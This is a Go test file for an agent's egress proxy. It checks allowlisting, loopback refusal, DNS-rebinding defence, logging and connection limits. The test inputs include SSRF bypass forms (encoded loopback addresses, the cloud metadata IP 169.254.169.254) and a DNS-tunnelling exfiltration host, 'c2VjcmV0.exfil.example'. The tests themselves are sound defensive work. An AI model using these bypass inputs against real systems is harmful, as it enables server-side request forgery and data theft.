package egress

import (
	"bufio"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/localagent/agent/policy"
)

// origin is a test server on 127.0.0.1 (the only place tests send traffic).
func origin(t *testing.T) (*httptest.Server, string, int) {
	t.Helper()
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprintf(w, "hello from origin, host %s", r.Host)
	}))
	t.Cleanup(srv.Close)
	u, _ := url.Parse(srv.URL)
	port, _ := strconv.Atoi(u.Port())
	return srv, u.Hostname(), port
}

type fixture struct {
	p       *Proxy
	logPath string
	mu      sync.Mutex
	records []Record
	lookups []string
	dials   []string
}

func (f *fixture) got() ([]Record, []string, []string) {
	f.mu.Lock()
	defer f.mu.Unlock()
	return append([]Record(nil), f.records...), append([]string(nil), f.lookups...), append([]string(nil), f.dials...)
}

// fakeDNS answers from a table and records every lookup.
type fakeDNS struct {
	f     *fixture
	names map[string][]string
}

func (d fakeDNS) LookupNetIP(_ context.Context, _, host string) ([]netip.Addr, error) {
	d.f.mu.Lock()
	d.f.lookups = append(d.f.lookups, host)
	d.f.mu.Unlock()
	var out []netip.Addr
	for _, s := range d.names[host] {
		out = append(out, netip.MustParseAddr(s))
	}
	if len(out) == 0 {
		return nil, &net.DNSError{Err: "no such host", Name: host, IsNotFound: true}
	}
	return out, nil
}

// start runs a proxy whose resolver is a table and whose dialler records
// each address; redirect, when set, sends every dial to that local address
// instead (so a "public" address is never really dialled).
func start(t *testing.T, pol policy.Egress, names map[string][]string, redirect string, mod func(*Config)) *fixture {
	t.Helper()
	f := &fixture{}
	dir := t.TempDir()
	f.logPath = filepath.Join(dir, "egress.jsonl")
	cfg := Config{
		Dir: filepath.Join(dir, "sock"), LogPath: f.logPath, Task: "t1", Policy: pol,
		Resolver: fakeDNS{f: f, names: names},
		Dial: func(ctx context.Context, network, addr string) (net.Conn, error) {
			f.mu.Lock()
			f.dials = append(f.dials, addr)
			f.mu.Unlock()
			if redirect != "" {
				addr = redirect
			}
			var d net.Dialer
			return d.DialContext(ctx, network, addr)
		},
		OnRecord: func(r Record) {
			f.mu.Lock()
			f.records = append(f.records, r)
			f.mu.Unlock()
		},
		DialTimeout: 5 * time.Second,
	}
	if mod != nil {
		mod(&cfg)
	}
	p, err := Start(context.Background(), cfg)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = p.Close() })
	f.p = p
	return f
}

// get fetches an absolute http URL through the proxy (plain proxying).
func get(t *testing.T, f *fixture, rawURL string) (int, string) {
	t.Helper()
	tr := &http.Transport{
		Proxy: http.ProxyURL(&url.URL{Scheme: "http", Host: "proxy"}),
		DialContext: func(ctx context.Context, _, _ string) (net.Conn, error) {
			var d net.Dialer
			return d.DialContext(ctx, "unix", f.p.Socket())
		},
	}
	defer tr.CloseIdleConnections()
	c := &http.Client{Transport: tr, Timeout: 10 * time.Second}
	resp, err := c.Get(rawURL)
	if err != nil {
		t.Fatalf("GET %s: %v", rawURL, err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(b)
}

// connectTunnel sends CONNECT target and returns the connection and the
// proxy's answer.
func connectTunnel(t *testing.T, f *fixture, target string) (net.Conn, *bufio.Reader, *http.Response) {
	t.Helper()
	c, err := net.Dial("unix", f.p.Socket())
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { c.Close() })
	fmt.Fprintf(c, "CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n", target, target)
	br := bufio.NewReader(c)
	_ = c.SetReadDeadline(time.Now().Add(10 * time.Second))
	resp, err := http.ReadResponse(br, &http.Request{Method: http.MethodConnect})
	if err != nil {
		t.Fatalf("CONNECT %s: %v", target, err)
	}
	_ = c.SetReadDeadline(time.Time{})
	return c, br, resp
}

// connectGet sends CONNECT target then a GET through the tunnel.
func connectGet(t *testing.T, f *fixture, target string) (int, string) {
	t.Helper()
	c, br, resp := connectTunnel(t, f, target)
	if resp.StatusCode != http.StatusOK {
		b, _ := io.ReadAll(resp.Body)
		return resp.StatusCode, string(b)
	}
	fmt.Fprintf(c, "GET / HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n", target)
	inner, err := http.ReadResponse(br, nil)
	if err != nil {
		t.Fatalf("GET through the tunnel: %v", err)
	}
	b, _ := io.ReadAll(inner.Body)
	inner.Body.Close()
	return inner.StatusCode, string(b)
}

func readLog(t *testing.T, path string) []Record {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	var out []Record
	for _, line := range strings.Split(strings.TrimSpace(string(b)), "\n") {
		if line == "" {
			continue
		}
		var r Record
		if err := json.Unmarshal([]byte(line), &r); err != nil {
			t.Fatalf("log line %q: %v", line, err)
		}
		out = append(out, r)
	}
	return out
}

// TestNamedLoopbackAllowed is the control for the denials below: with a rule
// naming the test server's exact address, both plain proxying and CONNECT
// reach it.
func TestNamedLoopbackAllowed(t *testing.T) {
	_, host, port := origin(t)
	target := net.JoinHostPort(host, strconv.Itoa(port))
	f := start(t, policy.MustParseEgress(target), nil, "", nil)

	if code, body := get(t, f, "http://"+target+"/"); code != 200 || !strings.Contains(body, "hello from origin") {
		t.Fatalf("plain GET through the proxy = %d %q; want 200 from the origin", code, body)
	}
	if code, body := connectGet(t, f, target); code != 200 || !strings.Contains(body, "hello from origin") {
		t.Fatalf("CONNECT then GET = %d %q; want 200 from the origin", code, body)
	}
	recs := readLog(t, f.logPath)
	if len(recs) != 2 {
		t.Fatalf("log has %d records; want 2: %+v", len(recs), recs)
	}
	for i, m := range []string{"GET", "CONNECT"} {
		r := recs[i]
		if !r.Allowed || r.Method != m || r.Host != host || r.Port != port || r.Rule != target || r.Addr != target || r.Task != "t1" {
			t.Errorf("record %d = %+v; want an allowed %s to %s by rule %s", i, r, m, target, target)
		}
	}
	if got, _, _ := f.got(); len(got) != 2 {
		t.Errorf("OnRecord saw %d records; want 2", len(got))
	}
}

// TestRefusesLocalUnlessNamed: IP literals and loopback are refused when no
// rule names them, without any dial; the control above shows the same
// server is reachable when named.
func TestRefusesLocalUnlessNamed(t *testing.T) {
	_, host, port := origin(t)
	p := strconv.Itoa(port)
	f := start(t, policy.MustParseEgress("allowed.example"), map[string][]string{"localhost": {"127.0.0.1"}}, "", nil)
	for _, target := range []string{
		host + ":" + p, "[::1]:" + p, "[::ffff:127.0.0.1]:" + p, "0.0.0.0:" + p, "localhost:" + p,
		"127.1:" + p, "2130706433:" + p, "169.254.169.254:80",
		// The in-sandbox forwarder's own address: a CONNECT back to itself.
		"127.0.0.1:3128",
	} {
		code, body := connectGet(t, f, target)
		if code != http.StatusForbidden || !strings.Contains(body, "denied") {
			t.Errorf("CONNECT %s = %d %q; want 403 denied", target, code, body)
		}
	}
	if code, body := get(t, f, "http://"+host+":"+p+"/"); code != http.StatusForbidden || !strings.Contains(body, "loopback") {
		t.Errorf("plain GET of %s:%s = %d %q; want 403 naming loopback", host, p, code, body)
	}
	recs, lookups, dials := f.got()
	if len(dials) != 0 || len(lookups) != 0 {
		t.Errorf("denied destinations were looked up %v or dialled %v", lookups, dials)
	}
	if len(recs) != 10 {
		t.Errorf("OnRecord saw %d records; want 10", len(recs))
	}
	for _, r := range readLog(t, f.logPath) {
		if r.Allowed || r.Reason == "" {
			t.Errorf("log record %+v; want denied with a reason", r)
		}
	}
}

// TestRebindingRefused: a name in the allowlist that resolves to loopback is
// refused at the address check; naming the address too (the control) lets
// the same request through.
func TestRebindingRefused(t *testing.T) {
	_, host, port := origin(t)
	names := map[string][]string{"rebind.example": {host}}
	name := "rebind.example:" + strconv.Itoa(port)

	f := start(t, policy.MustParseEgress(name), names, "", nil)
	code, body := connectGet(t, f, name)
	if code != http.StatusForbidden || !strings.Contains(body, "loopback") {
		t.Fatalf("CONNECT %s (resolving to %s) = %d %q; want 403 naming loopback", name, host, code, body)
	}
	recs, lookups, dials := f.got()
	if len(lookups) != 1 || len(dials) != 0 || len(recs) != 1 || recs[0].Allowed || recs[0].Addr == "" {
		t.Fatalf("lookups %v dials %v records %+v; want one lookup, no dial, one denial with the address", lookups, dials, recs)
	}

	control := start(t, policy.MustParseEgress(name, net.JoinHostPort(host, strconv.Itoa(port))), names, "", nil)
	if code, body := connectGet(t, control, name); code != 200 || !strings.Contains(body, "hello from origin") {
		t.Fatalf("control: CONNECT %s with its address named = %d %q; want 200", name, code, body)
	}
}

// TestDialsOnlyCheckedAddresses: of the addresses a name resolves to, only
// those that pass DecideIP are dialled. (The dialler redirects to the local
// origin, so the public address is never really contacted.)
func TestDialsOnlyCheckedAddresses(t *testing.T) {
	_, host, port := origin(t)
	names := map[string][]string{"pkg.example.com": {"127.0.0.1", "10.0.0.7", "93.184.215.14"}}
	f := start(t, policy.MustParseEgress("pkg.example.com"), names, net.JoinHostPort(host, strconv.Itoa(port)), nil)
	if code, _ := get(t, f, "http://pkg.example.com/"); code != 200 {
		t.Fatalf("GET = %d; want 200", code)
	}
	_, _, dials := f.got()
	if len(dials) != 1 || dials[0] != "93.184.215.14:80" {
		t.Fatalf("dialled %v; want only the public address", dials)
	}
	recs := readLog(t, f.logPath)
	if len(recs) != 1 || !recs[0].Allowed || recs[0].Rule != "pkg.example.com" || recs[0].Addr != "93.184.215.14:80" {
		t.Fatalf("log %+v; want one allowed record with the dialled address", recs)
	}
}

// TestUnlistedNameNeverResolved: a name outside the allowlist is refused
// before any lookup, so a lookup cannot carry data out (DNS tunnelling);
// the allowed name (control) is looked up.
func TestUnlistedNameNeverResolved(t *testing.T) {
	f := start(t, policy.MustParseEgress("allowed.example"), nil, "", nil)
	if code, body := get(t, f, "http://c2VjcmV0.exfil.example/"); code != http.StatusForbidden || !strings.Contains(body, "not in the egress allowlist") {
		t.Fatalf("GET of an unlisted name = %d %q; want 403", code, body)
	}
	if code, _ := get(t, f, "http://allowed.example/"); code != http.StatusBadGateway {
		t.Fatalf("GET of an allowed name that does not resolve = %d; want 502", code)
	}
	recs, lookups, _ := f.got()
	if len(lookups) != 1 || lookups[0] != "allowed.example" {
		t.Fatalf("lookups %v; want only the allowed name", lookups)
	}
	if len(recs) != 2 || recs[1].Error == "" || !recs[1].Allowed {
		t.Fatalf("records %+v; want a denial, then an allowed attempt that failed to resolve", recs)
	}
}

func TestEmptyAllowlistDeniesAll(t *testing.T) {
	_, host, port := origin(t)
	target := net.JoinHostPort(host, strconv.Itoa(port))
	f := start(t, policy.Egress{}, map[string][]string{"example.com": {"93.184.215.14"}}, target, nil)
	for _, u := range []string{"http://" + target + "/", "http://example.com/"} {
		if code, body := get(t, f, u); code != http.StatusForbidden || !strings.Contains(body, "empty") {
			t.Errorf("GET %s = %d %q; want 403 (allowlist empty)", u, code, body)
		}
	}
	if code, _ := connectGet(t, f, "example.com:443"); code != http.StatusForbidden {
		t.Errorf("CONNECT = %d; want 403", code)
	}
	if _, lookups, dials := f.got(); len(lookups)+len(dials) != 0 {
		t.Errorf("looked up %v, dialled %v", lookups, dials)
	}
	if n := len(readLog(t, f.logPath)); n != 3 {
		t.Errorf("log has %d records; want 3", n)
	}
}

func TestBadRequestsLogged(t *testing.T) {
	f := start(t, policy.MustParseEgress("allowed.example"), nil, "", nil)
	c, err := net.Dial("unix", f.p.Socket())
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	// An origin-form request: the proxy is not a web server.
	fmt.Fprint(c, "GET / HTTP/1.1\r\nHost: allowed.example\r\n\r\n")
	resp, err := http.ReadResponse(bufio.NewReader(c), nil)
	if err != nil {
		t.Fatal(err)
	}
	if resp.StatusCode != http.StatusBadRequest {
		t.Fatalf("origin-form request = %d; want 400", resp.StatusCode)
	}
	_, _, resp = connectTunnel(t, f, "allowed.example")
	if resp.StatusCode != http.StatusBadRequest {
		t.Fatalf("CONNECT without a port = %d; want 400", resp.StatusCode)
	}
	if recs := readLog(t, f.logPath); len(recs) != 2 || recs[0].Allowed || recs[1].Allowed {
		t.Fatalf("log %+v; want two denied records", recs)
	}
}

func TestSocketAndDirModes(t *testing.T) {
	f := start(t, policy.MustParseEgress("a.example"), nil, "", nil)
	di, err := os.Stat(f.p.Dir())
	if err != nil || di.Mode().Perm() != 0o755 {
		t.Fatalf("dir mode %v (%v); want 0755", di.Mode(), err)
	}
	si, err := os.Lstat(f.p.Socket())
	if err != nil || si.Mode()&os.ModeSocket == 0 || si.Mode().Perm() != 0o666 {
		t.Fatalf("socket mode %v (%v); want a socket with 0666", si.Mode(), err)
	}
	if err := f.p.Close(); err != nil {
		t.Fatal(err)
	}
	if _, err := os.Lstat(f.p.Socket()); !os.IsNotExist(err) {
		t.Fatalf("socket still there after Close: %v", err)
	}
	// A stale socket (a killed proxy) is replaced; a regular file is not.
	l, err := net.Listen("unix", f.p.Socket())
	if err != nil {
		t.Fatal(err)
	}
	l.(*net.UnixListener).SetUnlinkOnClose(false)
	l.Close()
	p2, err := Start(context.Background(), Config{Dir: f.p.Dir(), LogPath: f.logPath})
	if err != nil {
		t.Fatalf("Start over a stale socket: %v", err)
	}
	p2.Close()
	if err := os.WriteFile(f.p.Socket(), nil, 0o600); err != nil {
		t.Fatal(err)
	}
	if _, err := Start(context.Background(), Config{Dir: f.p.Dir(), LogPath: f.logPath}); err == nil || !strings.Contains(err.Error(), "not a socket") {
		t.Fatalf("Start over a regular file: %v; want a refusal", err)
	}
	if _, err := Start(context.Background(), Config{Dir: f.p.Dir()}); err == nil || !strings.Contains(err.Error(), "log") {
		t.Fatalf("Start without a log: %v; want a refusal", err)
	}
	if _, err := Start(context.Background(), Config{Dir: "/tmp/" + strings.Repeat("x", 120), LogPath: f.logPath}); err == nil || !strings.Contains(err.Error(), "longer") {
		t.Fatalf("Start with a long path: %v; want a clear error", err)
	}
}

// silentOrigin accepts connections on 127.0.0.1 and never writes.
func silentOrigin(t *testing.T) string {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { l.Close() })
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			go func() { _, _ = io.Copy(io.Discard, c); c.Close() }()
		}
	}()
	return l.Addr().String()
}

func TestIdleTunnelClosed(t *testing.T) {
	target := silentOrigin(t)
	f := start(t, policy.MustParseEgress(target), nil, "", func(c *Config) { c.IdleTimeout = 200 * time.Millisecond })
	c, br, resp := connectTunnel(t, f, target)
	if resp.StatusCode != 200 {
		t.Fatalf("CONNECT = %d", resp.StatusCode)
	}
	_ = c.SetReadDeadline(time.Now().Add(5 * time.Second))
	start := time.Now()
	if _, err := br.ReadByte(); err != io.EOF {
		t.Fatalf("read on an idle tunnel: %v; want EOF when the proxy closes it", err)
	}
	if d := time.Since(start); d > 3*time.Second {
		t.Fatalf("idle tunnel closed after %v", d)
	}
}

func TestCloseEndsTunnelsAndWaits(t *testing.T) {
	target := silentOrigin(t)
	f := start(t, policy.MustParseEgress(target), nil, "", nil)
	c, br, resp := connectTunnel(t, f, target)
	if resp.StatusCode != 200 {
		t.Fatalf("CONNECT = %d", resp.StatusCode)
	}
	done := make(chan error, 1)
	go func() { done <- f.p.Close() }()
	select {
	case err := <-done:
		if err != nil {
			t.Fatalf("Close: %v", err)
		}
	case <-time.After(5 * time.Second):
		t.Fatal("Close did not return with a tunnel open")
	}
	_ = c.SetReadDeadline(time.Now().Add(5 * time.Second))
	if _, err := br.ReadByte(); err != io.EOF {
		t.Fatalf("tunnel read after Close: %v; want EOF", err)
	}
	if _, err := net.Dial("unix", f.p.Socket()); err == nil {
		t.Fatal("the socket still accepts after Close")
	}
}

func TestMaxConnsBounds(t *testing.T) {
	target := silentOrigin(t)
	f := start(t, policy.MustParseEgress(target), nil, "", func(c *Config) { c.MaxConns = 1 })
	first, _, resp := connectTunnel(t, f, target)
	if resp.StatusCode != 200 {
		t.Fatalf("CONNECT = %d", resp.StatusCode)
	}
	second, err := net.Dial("unix", f.p.Socket())
	if err != nil {
		t.Fatal(err)
	}
	defer second.Close()
	fmt.Fprintf(second, "CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n", target, target)
	br := bufio.NewReader(second)
	_ = second.SetReadDeadline(time.Now().Add(300 * time.Millisecond))
	if _, err := br.ReadByte(); err == nil {
		t.Fatal("a second connection was served while the limit of 1 was in use")
	}
	first.Close()
	_ = second.SetReadDeadline(time.Now().Add(5 * time.Second))
	resp, err = http.ReadResponse(br, &http.Request{Method: http.MethodConnect})
	if err != nil || resp.StatusCode != 200 {
		t.Fatalf("second CONNECT after the first closed: %v %v", resp, err)
	}
}

func TestCancelledContextCloses(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	dir := t.TempDir()
	p, err := Start(ctx, Config{Dir: filepath.Join(dir, "s"), LogPath: filepath.Join(dir, "l")})
	if err != nil {
		t.Fatal(err)
	}
	cancel()
	deadline := time.Now().Add(5 * time.Second)
	for {
		if _, err := net.Dial("unix", p.Socket()); err != nil {
			break
		}
		if time.Now().After(deadline) {
			t.Fatal("proxy still accepting after its context was cancelled")
		}
		time.Sleep(20 * time.Millisecond)
	}
	if err := p.Close(); err != nil {
		t.Fatal(err)
	}
}

// TestRefusedConnectClosesConnection: bytes a client pipelines behind a
// refused CONNECT (meant for the tunnel) are never read as proxy requests.
func TestRefusedConnectClosesConnection(t *testing.T) {
	f := start(t, policy.MustParseEgress("allowed.example"), nil, "", nil)
	c, err := net.Dial("unix", f.p.Socket())
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	fmt.Fprint(c, "CONNECT denied.example:443 HTTP/1.1\r\nHost: denied.example:443\r\n\r\nGET http://allowed.example/ HTTP/1.1\r\nHost: allowed.example\r\n\r\n")
	_ = c.SetReadDeadline(time.Now().Add(5 * time.Second))
	br := bufio.NewReader(c)
	resp, err := http.ReadResponse(br, &http.Request{Method: http.MethodConnect})
	if err != nil || resp.StatusCode != http.StatusForbidden {
		t.Fatalf("CONNECT: %v %v; want 403", resp, err)
	}
	_, _ = io.Copy(io.Discard, resp.Body)
	if b, err := io.ReadAll(br); len(b) != 0 || err != nil {
		t.Fatalf("after a refused CONNECT the proxy answered more: %q %v", b, err)
	}
	if recs := readLog(t, f.logPath); len(recs) != 1 {
		t.Fatalf("log %+v; want only the CONNECT", recs)
	}
}

// TestLogFailureRefuses: no log, no connection — an attempt the proxy
// cannot record is refused before anything is dialled.
func TestLogFailureRefuses(t *testing.T) {
	_, host, port := origin(t)
	target := net.JoinHostPort(host, strconv.Itoa(port))
	f := start(t, policy.MustParseEgress(target), nil, "", nil)
	if code, _ := get(t, f, "http://"+target+"/"); code != 200 {
		t.Fatalf("control: GET = %d; want 200 while the log works", code)
	}
	f.p.logMu.Lock()
	f.p.logFile.Close() // every later write fails
	f.p.logMu.Unlock()
	if code, body := get(t, f, "http://"+target+"/"); code != http.StatusServiceUnavailable || strings.Contains(body, "hello") {
		t.Fatalf("GET with a broken log = %d %q; want 503", code, body)
	}
	if code, _ := connectGet(t, f, target); code != http.StatusServiceUnavailable {
		t.Fatalf("CONNECT with a broken log = %d; want 503", code)
	}
}

// TestTunnelCarriesLargeTransfers checks the splice both ways with a
// half-close, and a plain proxied POST body.
func TestTunnelCarriesLargeTransfers(t *testing.T) {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			go func() {
				// Echo everything, then close after the client's half-close.
				_, _ = io.Copy(c, c)
				c.Close()
			}()
		}
	}()
	target := l.Addr().String()
	f := start(t, policy.MustParseEgress(target), nil, "", nil)
	c, br, resp := connectTunnel(t, f, target)
	if resp.StatusCode != 200 {
		t.Fatalf("CONNECT = %d", resp.StatusCode)
	}
	payload := []byte(strings.Repeat("0123456789abcdef", 1<<19)) // 8 MiB
	go func() {
		_, _ = c.Write(payload)
		_ = c.(*net.UnixConn).CloseWrite()
	}()
	_ = c.SetReadDeadline(time.Now().Add(30 * time.Second))
	got, err := io.ReadAll(br)
	if err != nil || len(got) != len(payload) || string(got) != string(payload) {
		t.Fatalf("echoed %d bytes (%v); want the %d sent, intact", len(got), err, len(payload))
	}

	echo := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { _, _ = io.Copy(w, r.Body) }))
	defer echo.Close()
	u, _ := url.Parse(echo.URL)
	f2 := start(t, policy.MustParseEgress(u.Host), nil, "", nil)
	tr := &http.Transport{
		Proxy: http.ProxyURL(&url.URL{Scheme: "http", Host: "proxy"}),
		DialContext: func(ctx context.Context, _, _ string) (net.Conn, error) {
			var d net.Dialer
			return d.DialContext(ctx, "unix", f2.p.Socket())
		},
	}
	defer tr.CloseIdleConnections()
	resp, err = (&http.Client{Transport: tr}).Post(echo.URL+"/", "application/octet-stream", strings.NewReader(string(payload)))
	if err != nil {
		t.Fatal(err)
	}
	body, err := io.ReadAll(resp.Body)
	resp.Body.Close()
	if err != nil || string(body) != string(payload) {
		t.Fatalf("POST echoed %d bytes (%v); want %d", len(body), err, len(payload))
	}
}

// BenchmarkConnect is one CONNECT, a small request through the tunnel, and
// the close: the per-connection cost the proxy adds.
func BenchmarkConnect(b *testing.B) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { fmt.Fprint(w, "ok") }))
	defer srv.Close()
	u, _ := url.Parse(srv.URL)
	dir := b.TempDir()
	p, err := Start(context.Background(), Config{Dir: filepath.Join(dir, "s"), LogPath: filepath.Join(dir, "l"), Policy: policy.MustParseEgress(u.Host)})
	if err != nil {
		b.Fatal(err)
	}
	defer p.Close()
	for b.Loop() {
		c, err := net.Dial("unix", p.Socket())
		if err != nil {
			b.Fatal(err)
		}
		fmt.Fprintf(c, "CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\nGET / HTTP/1.0\r\n\r\n", u.Host, u.Host)
		if _, err := io.ReadAll(c); err != nil {
			b.Fatal(err)
		}
		c.Close()
	}
}

// BenchmarkDirect is the same request without the proxy, for the ratio.
func BenchmarkDirect(b *testing.B) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { fmt.Fprint(w, "ok") }))
	defer srv.Close()
	u, _ := url.Parse(srv.URL)
	for b.Loop() {
		c, err := net.Dial("tcp", u.Host)
		if err != nil {
			b.Fatal(err)
		}
		fmt.Fprint(c, "GET / HTTP/1.0\r\n\r\n")
		if _, err := io.ReadAll(c); err != nil {
			b.Fatal(err)
		}
		c.Close()
	}
}
